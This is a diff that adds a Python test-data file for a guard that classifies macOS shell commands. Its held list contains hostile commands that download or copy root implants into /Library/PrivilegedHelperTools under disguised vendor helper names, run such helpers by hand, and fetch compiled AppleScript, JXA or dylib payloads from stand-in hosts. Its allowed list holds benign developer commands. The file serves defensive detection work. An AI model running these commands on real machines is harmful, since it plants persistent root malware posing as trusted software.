@@ -1,0 +1,60 @@
+"""macOS implant classes a fresh round found (helper macos26).
+
+Held out by source before any verdict was seen: MITRE's 2024 DPRK macOS emulation plan
+(attackevals/ael, Enterprise/dprk: FULLHOUSE.DOORED, STRATOFEAR and the keychain tests), a purple-team
+"macOS attack simulation" script and a persistence-triage cheat sheet; tuned on rtrouton's Mac admin
+scripts and own spellings of the brief's classes (TCC.db, tccutil, keychain dumps, dscl accounts,
+Gatekeeper and SIP, quarantine removal, password dialogs, silent screenshots, launchd, login hooks),
+which the guards already held. The corpus stays outside the repository (/work/realworld/macos26 on
+the machine that measured it). The commands here are variants written for the tests, not the ones
+measured:
+
+- ``/Library/PrivilegedHelperTools``: launchd runs the helper there as root for the daemon that names
+  it, so a file downloaded, copied or made executable there is a root implant passing for an app's
+  helper (STRATOFEAR as ``us.zoom.ZoomHelperTool``), and a program run from there by hand is whatever
+  was put there;
+- a compiled AppleScript (``.scpt``), JXA script or a dylib fetched from another machine: code only
+  ever run (``osascript /tmp/t.scpt``) or loaded, never read first.
+"""
+
+HELD: dict[str, list[str]] = {
+    "privileged helper planted": [
+        "sudo curl -sL -o /Library/PrivilegedHelperTools/com.google.keystone.helper http://10.1.2.3/k",
+        "cp ./agent /Library/PrivilegedHelperTools/com.microsoft.autoupdate.helper",
+        "sudo chmod 755 /Library/PrivilegedHelperTools/com.docker.vmnetd",
+        "sudo mv /tmp/.u /Library/PrivilegedHelperTools/us.zoom.ZoomDaemon",
+        "wget -O /Library/PrivilegedHelperTools/com.apple.sysmond https://cdn.example.net/bin",
+    ],
+    "privileged helper run by hand": [
+        "/Library/PrivilegedHelperTools/com.docker.vmnetd.bak",
+        "sudo /Library/PrivilegedHelperTools/us.zoom.ZoomHelperTool-Runner -p /tmp/ABCDEF.tmp",
+        "nohup /Library/PrivilegedHelperTools/com.adobe.acc.installer.v2 >/dev/null 2>&1 &",
+    ],
+    "compiled script or library fetched": [
+        "curl -s -o /tmp/update.scpt https://files-backup.example.org/u.scpt",
+        "wget -q http://198.51.100.7/stage/prompt.applescript",
+        "curl -L -o ~/Library/Caches/x.tmp https://cdn.example.net/m/libkc.dylib",
+        "curl -sO http://203.0.113.9/j/run.jxa",
+    ],
+}
+
+ALLOWED: list[str] = [
+    # launchd, quarantine, keychain and settings read: what a developer looks at
+    "launchctl list | grep com.example",
+    "launchctl print gui/501/com.example.agent",
+    "xattr -l ~/Downloads/Tool.dmg",
+    "security find-identity -v -p codesigning",
+    "defaults read com.apple.dock autohide",
+    "ls -l /Library/PrivilegedHelperTools/",
+    "codesign -dv --verbose=4 /Library/PrivilegedHelperTools/com.docker.vmnetd",
+    "cat /Library/LaunchDaemons/com.docker.vmnetd.plist",
+    # Homebrew and Xcode, downloads of archives and text
+    "brew install --cask docker",
+    "xcode-select --install",
+    "xcodebuild -scheme MyApp -configuration Debug build",
+    "curl -LO https://github.com/example/tool/releases/download/v1.2.0/tool-darwin-arm64.tar.gz",
+    "curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh -o /tmp/brew-install.sh",
+    "curl -o build/libfoo.dylib.sha256 https://example.com/libfoo.dylib.sha256",
+    "osacompile -o build/Helper.scpt src/helper.applescript",
+    "otool -L build/Release/libcore.dylib",
+]
